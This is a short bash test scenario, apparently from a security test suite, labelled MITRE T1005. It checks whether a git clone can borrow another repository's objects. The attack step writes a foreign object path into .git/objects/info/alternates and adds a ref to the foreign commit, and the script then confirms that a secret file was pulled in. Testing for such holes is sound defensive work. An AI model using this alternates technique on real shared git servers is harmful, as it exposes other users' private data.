# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1005
about="objects of another repository are borrowed"
before() {
	rm -rf /srv/other
	HOME=$work/home git init -q /srv/other
	echo secret >/srv/other/f
	(cd /srv/other && HOME=$work/home git add . && HOME=$work/home git commit -qm x)
}
attack() {
	echo /srv/other/.git/objects >$work/clone/.git/objects/info/alternates
	blob=$(HOME=$work/home git -C /srv/other rev-parse HEAD)
	echo "$blob" >$work/clone/.git/refs/heads/stolen
	tell log
	tell gc
}
effect() { ls $work/clone/.git/objects/pack/*.pack && rm $work/clone/.git/objects/info/alternates && HOME=$work/home git -C $work/clone cat-file -p "$blob:f" | grep -q secret; }
